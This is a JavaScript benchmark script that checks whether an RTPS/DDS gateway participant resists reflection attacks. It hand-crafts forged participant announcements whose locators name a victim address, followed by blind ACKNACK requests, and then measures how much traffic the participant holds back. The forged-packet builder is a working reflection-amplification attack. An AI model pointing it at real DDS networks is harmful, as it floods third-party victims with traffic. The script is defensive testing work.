// The gateway side of the reflection bench (bench/reflection/run.mjs), run in the gateway's network namespace: a
// medkit participant as the gateway runs it (not localhost-only, multicast on, a user writer and reader), and an
// attacker beside it that announces forged participants whose locators name the victim (another namespace: an
// off-machine address), each announcement followed by blind ACKNACKs asking our SEDP writers for everything. Prints
// one JSON line: bytes the attacker sent, what the participant held back, and when the attacker stopped.
// Usage: node bench/reflection/attacker.mjs <domain> <victimAddress> <victimPort> <fakes> <rounds> <leaseSec>
import dgram from 'node:dgram';
import { randomBytes } from 'node:crypto';
import { setTimeout as sleep } from 'node:timers/promises';
import { createParticipant } from '@medkit/rtps';

const [domain, victimAddress, victimPort, fakes, rounds, leaseSec] = process.argv.slice(2).map((v, i) => (i === 1 ? v : Number(v)));
const p = await createParticipant({ domainId: domain, localhostOnly: false, admission: { maxLeaseSec: leaseSec } });
p.createWriter({ topic: 'rt/reflect_w', typeName: 'T', qos: { reliability: 'reliable', durability: 'transient-local' } });
p.createReader({ topic: 'rt/reflect_r', typeName: 'T', qos: { reliability: 'reliable' } });

// RTPS written by hand (little-endian submessages), only what the attack needs.
const u32 = (v) => { const b = Buffer.alloc(4); b.writeUInt32LE(v >>> 0); return b; };
const entity = (v) => { const b = Buffer.alloc(4); b.writeUInt32BE(v >>> 0); return b; };
const sub = (id, flags, body) => { const h = Buffer.from([id, flags | 1, 0, 0]); h.writeUInt16LE(body.length, 2); return Buffer.concat([h, body]); };
const param = (pid, v) => { const h = Buffer.alloc(4); h.writeUInt16LE(pid, 0); h.writeUInt16LE(v.length, 2); return Buffer.concat([h, v]); };
const addr = victimAddress.split('.').map(Number);
const locator = () => Buffer.concat([u32(1), u32(victimPort), Buffer.alloc(12), Buffer.from(addr)]);
function forged(prefix, count) {
  const pl = Buffer.concat([
    Buffer.from([0, 3, 0, 0]),
    param(0x15, Buffer.from([2, 3, 0, 0])),
    param(0x16, Buffer.from([1, 1, 0, 0])),
    param(0x50, Buffer.concat([prefix, Buffer.from([0, 0, 1, 0xc1])])),
    param(0x0f, u32(domain)),
    param(0x02, Buffer.concat([u32(leaseSec), u32(0)])),
    param(0x58, u32(0x0c3f)),
    param(0x32, locator()),
    param(0x31, locator()),
    Buffer.from([1, 0, 0, 0]),
  ]);
  const data = sub(0x15, 0x04, Buffer.concat([Buffer.from([0, 0, 16, 0]), entity(0x000100c7), entity(0x000100c2), u32(0), u32(1), pl]));
  const acks = [[0x3c7, 0x3c2], [0x4c7, 0x4c2], [0x200c7, 0x200c2]].map(([r, w]) => sub(0x06, 0, Buffer.concat([entity(r), entity(w), u32(0), u32(1), u32(32), u32(0xffffffff), u32(count)])));
  return Buffer.concat([Buffer.from('RTPS'), Buffer.from([2, 3, 1, 1]), prefix, data, ...acks]);
}

const attacker = dgram.createSocket('udp4');
await new Promise((r) => attacker.bind(0, r));
const prefixes = Array.from({ length: fakes }, () => randomBytes(12));
const port = p.locators.metatrafficUnicast[0].port;
let spent = 0;
for (let round = 1; round <= rounds; round++) {
  for (const prefix of prefixes) {
    const d = forged(prefix, round);
    spent += d.length;
    await new Promise((r) => attacker.send(d, port, '127.0.0.1', r));
  }
  await sleep(1000);
}
attacker.close();
const stoppedAt = Date.now();
const trackedAtStop = p.participantStats().tracked;
// One clamped lease and a little more: the fakes are gone; whatever reaches the victim after that is a leak.
await sleep((leaseSec + 3) * 1000);
console.log(JSON.stringify({ spent, stoppedAt, trackedAtStop, trackedAfter: p.participantStats().tracked, heldBack: p.trafficStats().heldBackOut }));
await p.close();
process.exit(0);
